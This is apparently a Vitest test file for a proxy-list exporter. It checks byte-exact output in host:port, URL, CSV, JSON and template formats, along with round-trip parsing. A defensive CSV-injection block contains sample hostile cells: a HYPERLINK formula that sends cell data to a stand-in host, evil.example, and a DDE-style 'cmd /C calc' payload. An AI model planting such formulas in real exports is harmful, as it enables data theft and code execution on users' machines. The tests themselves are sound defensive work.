/** Writing proxy lists in each format, byte for byte, and reading each back as the same proxies. */
import { describe, expect, it } from 'vitest'
import { formatProxies, type ExportableProxy, type ProxyFormat } from '../../../src/shared/proxy-list/format'
import { PROXY_FIELDS, ProxyTemplateError, parseTemplate } from '../../../src/shared/proxy-list/template'
import { parseProxyLines } from '../../../src/shared/proxy-list/parse'
import { createdProxyAccess, proxyAccessList, updatedProxyAccess } from '../iproxy/seed-examples'

const A = createdProxyAccess as ExportableProxy
const B = updatedProxyAccess as ExportableProxy
const C = proxyAccessList.proxy_accesses[1] as ExportableProxy
const seed = [A, B, C]
const names = { '2W1IlyssyF': 'Phone, "A"', ksdfmw343: 'Office' }

const noauth: ExportableProxy = {
  id: 'NoAuth1', connection_id: 'ksdfmw343', listen_service: 'socks5', auth_type: 'noauth', ip: '5.6.7.8', port: 20000, hostname: 'x2.fxdx.in',
}

function fmt(format: ProxyFormat, address: 'hostname' | 'ip', extra: { template?: string } = {}): string {
  return formatProxies(seed, { format, address, connectionNames: names, ...extra }).text
}

describe('formatProxies: byte-exact output for the seed examples', () => {
  it('host:port:login:password', () => {
    expect(fmt('host:port:login:password', 'hostname')).toBe(
      'x1.fxdx.in:13874:username:superpassword\nx1.fxdx.in:13872:new_login:new_pass\nx1.fxdx.in:13875:new_login:new_pass\n',
    )
    expect(fmt('host:port:login:password', 'ip')).toBe('1.2.3.4:13874:username:superpassword\n1.2.3.4:13872:new_login:new_pass\n3.2.1.0:13875:new_login:new_pass\n')
  })

  it('login:password@host:port', () => {
    expect(fmt('login:password@host:port', 'hostname')).toBe(
      'username:superpassword@x1.fxdx.in:13874\nnew_login:new_pass@x1.fxdx.in:13872\nnew_login:new_pass@x1.fxdx.in:13875\n',
    )
    expect(fmt('login:password@host:port', 'ip')).toBe('username:superpassword@1.2.3.4:13874\nnew_login:new_pass@1.2.3.4:13872\nnew_login:new_pass@3.2.1.0:13875\n')
  })

  it('url', () => {
    expect(fmt('url', 'hostname')).toBe(
      'socks5://username:superpassword@x1.fxdx.in:13874\nhttp://new_login:new_pass@x1.fxdx.in:13872\nhttp://new_login:new_pass@x1.fxdx.in:13875\n',
    )
    expect(fmt('url', 'ip')).toBe('socks5://username:superpassword@1.2.3.4:13874\nhttp://new_login:new_pass@1.2.3.4:13872\nhttp://new_login:new_pass@3.2.1.0:13875\n')
  })

  it('host:port', () => {
    expect(fmt('host:port', 'hostname')).toBe('x1.fxdx.in:13874\nx1.fxdx.in:13872\nx1.fxdx.in:13875\n')
    expect(fmt('host:port', 'ip')).toBe('1.2.3.4:13874\n1.2.3.4:13872\n3.2.1.0:13875\n')
  })

  it('csv (the same for both address choices: it carries both)', () => {
    const expected =
      'connection_name,connection_id,proxy_id,service,auth_type,hostname,ip,port,login,password,expires_at,description\n' +
      '"Phone, ""A""",2W1IlyssyF,2CiQPfoWcJ,socks5,userpass,x1.fxdx.in,1.2.3.4,13874,username,superpassword,,new proxy description\n' +
      'Office,ksdfmw343,k31kcls,http,userpass,x1.fxdx.in,1.2.3.4,13872,new_login,new_pass,,new description\n' +
      '"Phone, ""A""",2W1IlyssyF,HjttgsJjG3,http,userpass,x1.fxdx.in,3.2.1.0,13875,new_login,new_pass,,new description\n'
    expect(fmt('csv', 'hostname')).toBe(expected)
    expect(fmt('csv', 'ip')).toBe(expected)
  })

  it('json (pretty-printed, the same fields)', () => {
    const text = fmt('json', 'ip')
    expect(fmt('json', 'hostname')).toBe(text)
    expect(text.endsWith(']\n')).toBe(true)
    expect(text.startsWith('[\n  {\n    "connection_name": "Phone, \\"A\\"",\n    "connection_id": "2W1IlyssyF",\n')).toBe(true)
    const rows = JSON.parse(text) as Record<string, unknown>[]
    expect(rows).toHaveLength(3)
    expect(Object.keys(rows[0] ?? {})).toEqual([...PROXY_FIELDS])
    expect(rows[0]).toEqual({
      connection_name: 'Phone, "A"', connection_id: '2W1IlyssyF', proxy_id: '2CiQPfoWcJ', service: 'socks5', auth_type: 'userpass',
      hostname: 'x1.fxdx.in', ip: '1.2.3.4', port: 13874, login: 'username', password: 'superpassword', expires_at: '', description: 'new proxy description',
    })
    expect(text).toBe(JSON.stringify(rows, null, 2) + '\n')
  })

  it('template with every placeholder', () => {
    expect(fmt('template', 'hostname', { template: '{service}://{login}:{password}@{host}:{port}' })).toBe(fmt('url', 'hostname'))
    const all = '{connection_name}|{connection_id}|{proxy_id}|{service}|{auth_type}|{hostname}|{ip}|{port}|{login}|{password}|{expires_at}|{description}|{host}|{{x}}'
    expect(fmt('template', 'ip', { template: all }).split('\n')[0]).toBe(
      'Phone, "A"|2W1IlyssyF|2CiQPfoWcJ|socks5|userpass|x1.fxdx.in|1.2.3.4|13874|username|superpassword||new proxy description|1.2.3.4|{x}',
    )
  })

  it('an empty list gives no lines, CSV its header, JSON an empty array', () => {
    expect(formatProxies([], { format: 'url', address: 'ip' }).text).toBe('')
    expect(formatProxies([], { format: 'csv', address: 'ip' }).text).toBe(PROXY_FIELDS.join(',') + '\n')
    expect(formatProxies([], { format: 'json', address: 'ip' }).text).toBe('[]\n')
  })
})

describe('CSV: free-text cells never run as spreadsheet formulas (OWASP CSV injection)', () => {
  const formulaNames = {
    '2W1IlyssyF': '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ksdfmw343: '+1+2',
  }
  const hostile: ExportableProxy[] = [
    { ...A, description: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
    { ...B, description: '-2+3' },
    { ...C, description: '\t=1+1' },
    { ...A, id: 'cr', port: 13001, description: '\r=1+1' },
    // Credentials that look like formulas stay exactly what the proxy needs.
    { ...A, id: 'creds', port: 13002, auth: { login: '=login', password: '+pa=ss@-' } },
  ]

  it('puts an apostrophe before names and descriptions that start with = + - @ tab or CR', () => {
    const text = formatProxies(hostile, { format: 'csv', address: 'ip', connectionNames: formulaNames }).text
    const rows = text.split('\n')
    expect(rows[1]).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",2W1IlyssyF,2CiQPfoWcJ,socks5,userpass,x1.fxdx.in,1.2.3.4,13874,username,superpassword,,\'@SUM(1+1)*cmd|\' /C calc\'!A0',
    )
    expect(rows[2]).toBe("'+1+2,ksdfmw343,k31kcls,http,userpass,x1.fxdx.in,1.2.3.4,13872,new_login,new_pass,,'-2+3")
    expect(rows[3]?.endsWith(",'\t=1+1")).toBe(true)
    expect(rows[4]?.endsWith(',"\'\r=1+1"')).toBe(true)
    expect(rows[5]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",2W1IlyssyF,creds,socks5,userpass,x1.fxdx.in,1.2.3.4,13002,=login,+pa=ss@-,,new proxy description`)
    // No cell a spreadsheet reads as text-to-evaluate is left: every cell starting with a formula character is a credential or host.
    expect(text).not.toMatch(/(^|,)"?[=+@]HYPERLINK/m)
  })

  it('leaves names and descriptions that do not start with a formula character as they are', () => {
    const text = formatProxies([{ ...A, description: 'a=b, -c' }], { format: 'csv', address: 'ip', connectionNames: { '2W1IlyssyF': 'Phone 1 (=main)' } }).text
    expect(text.split('\n')[1]).toBe('Phone 1 (=main),2W1IlyssyF,2CiQPfoWcJ,socks5,userpass,x1.fxdx.in,1.2.3.4,13874,username,superpassword,,"a=b, -c"')
  })

  it('round trip: hosts, ports, logins and passwords read back byte-exact', () => {
    const parsed = parseProxyLines(formatProxies(hostile, { format: 'csv', address: 'ip', connectionNames: formulaNames }).text)
    expect(parsed.rejected).toEqual([])
    expect(parsed.proxies.map((p) => ({ host: p.host, ip: p.ip, port: p.port, login: p.login, password: p.password }))).toEqual(
      hostile.map((p) => ({ host: p.hostname, ip: p.ip, port: p.port, login: p.auth?.login, password: p.auth?.password })),
    )
  })
})

describe('formatProxies: noauth, refusals, IPv6', () => {
  it('writes a noauth access without credentials in each credential format and says so', () => {
    for (const [format, line] of [
      ['host:port:login:password', 'x2.fxdx.in:20000'],
      ['login:password@host:port', 'x2.fxdx.in:20000'],
      ['url', 'socks5://x2.fxdx.in:20000'],
    ] as const) {
      const out = formatProxies([A, noauth], { format, address: 'hostname' })
      expect(out.text.split('\n')[1]).toBe(line)
      expect(out.count).toBe(2)
      expect(out.notes).toEqual([{ kind: 'noauth_without_credentials', count: 1, proxyIds: ['NoAuth1'] }])
    }
    expect(formatProxies([noauth], { format: 'host:port', address: 'hostname' }).notes).toEqual([])
  })

  it('refuses ":" in a login or password and a line break anywhere in colon formats, for that line only', () => {
    const colon = { ...A, id: 'colon', auth: { login: 'u', password: 'a:b' } }
    const colonLogin = { ...A, id: 'colonLogin', auth: { login: 'u:x', password: 'p' } }
    const newline = { ...A, id: 'nl', auth: { login: 'u', password: 'a\nb' } }
    for (const format of ['host:port:login:password', 'login:password@host:port'] as const) {
      const out = formatProxies([colon, B, colonLogin, newline], { format, address: 'ip' })
      expect(out.count).toBe(1)
      expect(out.text.split('\n')).toHaveLength(2)
      expect(out.skipped.map((s) => [s.proxyId, s.reason, s.field])).toEqual([
        ['colon', 'colon_in_credentials', 'password'],
        ['colonLogin', 'colon_in_credentials', 'login'],
        ['nl', 'newline_in_field', 'password'],
      ])
      expect(out.skipped[0]?.message).toMatch(/password contains ":"/)
    }
    const url = formatProxies([colon, newline], { format: 'url', address: 'ip' })
    expect(url.skipped).toEqual([])
    expect(url.text).toBe('socks5://u:a%3Ab@1.2.3.4:13874\nsocks5://u:a%0Ab@1.2.3.4:13874\n')
    const tpl = formatProxies([newline, A], { format: 'template', template: '{host}:{port}:{password}', address: 'ip' })
    expect(tpl.skipped.map((s) => s.reason)).toEqual(['newline_in_field'])
    expect(tpl.text).toBe('1.2.3.4:13874:superpassword\n')
  })

  it('brackets IPv6 addresses', () => {
    const v6 = { ...A, ip: '2001:db8::1' }
    expect(formatProxies([v6], { format: 'host:port:login:password', address: 'ip' }).text).toBe('[2001:db8::1]:13874:username:superpassword\n')
    expect(formatProxies([v6], { format: 'url', address: 'ip' }).text).toBe('socks5://username:superpassword@[2001:db8::1]:13874\n')
  })

  it('refuses a bad template', () => {
    expect(parseTemplate('{host}:{nope}')).toMatchObject({ ok: false, message: expect.stringMatching(/Unknown placeholder \{nope\}/) })
    expect(parseTemplate('{host')).toMatchObject({ ok: false })
    expect(parseTemplate('host}')).toMatchObject({ ok: false })
    expect(parseTemplate('plain text')).toMatchObject({ ok: false })
    expect(parseTemplate('{host}\n{port}')).toMatchObject({ ok: false })
    expect(() => formatProxies(seed, { format: 'template', address: 'ip', template: '{bad}' })).toThrow(ProxyTemplateError)
    expect(() => formatProxies(seed, { format: 'template', address: 'ip' })).toThrow(ProxyTemplateError)
  })
})

const essentials = (p: ExportableProxy, address: 'hostname' | 'ip', withService: boolean) => ({
  ...(withService ? { service: p.listen_service } : {}),
  host: address === 'ip' ? p.ip : p.hostname,
  port: p.port,
  ...(p.auth ? { login: p.auth.login, password: p.auth.password } : {}),
})

describe('parseProxyLines(formatProxies(x)) returns x', () => {
  const awkward: ExportableProxy[] = [
    A,
    B,
    { ...C, auth: { login: 'user@example.com', password: 'p@ss%20/w or d ✓ пароль' } },
    { ...A, id: 'v6', ip: '2001:db8::7', auth: { login: 'ü/ser', password: '%%%@@@///   ' }, port: 1 },
    { ...A, id: 'sym', auth: { login: 'a+b', password: '#hash?q=1&x;y' }, port: 65535 },
  ]

  for (const address of ['hostname', 'ip'] as const) {
    it(`url keeps @ % / spaces and non-ASCII (${address})`, () => {
      const out = formatProxies(awkward, { format: 'url', address })
      expect(out.skipped).toEqual([])
      const parsed = parseProxyLines(out.text)
      expect(parsed.rejected).toEqual([])
      expect(parsed.proxies.map(({ lineNumber: _, ...p }) => p)).toEqual(awkward.map((p) => essentials(p, address, true)))
      expect(parsed.proxies.map((p) => p.lineNumber)).toEqual([1, 2, 3, 4, 5])
    })

    it(`colon formats and host:port (${address})`, () => {
      const plain = [A, B, C, { ...A, id: 'x', auth: { login: 'mail@host.com', password: 'p@ss/w%rd ✓' } }]
      for (const format of ['host:port:login:password', 'login:password@host:port'] as const) {
        const parsed = parseProxyLines(formatProxies(plain, { format, address }).text)
        expect(parsed.rejected).toEqual([])
        expect(parsed.proxies.map(({ lineNumber: _, ...p }) => p)).toEqual(plain.map((p) => essentials(p, address, false)))
      }
      // host:port only: the last one repeats the first one's address, so it is reported as a duplicate.
      const hp = parseProxyLines(formatProxies(plain, { format: 'host:port', address }).text)
      expect(hp.rejected.map((r) => [r.lineNumber, r.reason, r.duplicateOf])).toEqual([[4, 'duplicate', 1]])
      expect(hp.proxies.map((p) => `${p.host}:${p.port}`)).toEqual(plain.slice(0, 3).map((p) => `${address === 'ip' ? p.ip : p.hostname}:${p.port}`))
    })

    it(`csv, json and a url template (${address})`, () => {
      const withNoauth = [...awkward, noauth, { ...A, id: 'q', description: 'multi\nline, "quoted"', auth: { login: 'l', password: ' edge ' } }]
      for (const format of ['csv', 'json'] as const) {
        const parsed = parseProxyLines(formatProxies(withNoauth, { format, address, connectionNames: names }).text)
        expect(parsed.rejected).toEqual([])
        expect(parsed.proxies.map((p) => ({ service: p.service, host: p.host, ip: p.ip, port: p.port, login: p.login, password: p.password, proxyId: p.proxyId, description: p.description }))).toEqual(
          withNoauth.map((p) => ({ service: p.listen_service, host: p.hostname, ip: p.ip, port: p.port, login: p.auth?.login, password: p.auth?.password, proxyId: p.id, description: p.description })),
        )
      }
      const tpl = formatProxies(awkward, { format: 'template', address, template: '{service}://{login_url}:{password_url}@{host}:{port}' })
      expect(parseProxyLines(tpl.text).proxies.map(({ lineNumber: _, ...p }) => p)).toEqual(awkward.map((p) => essentials(p, address, true)))
    })
  }
})
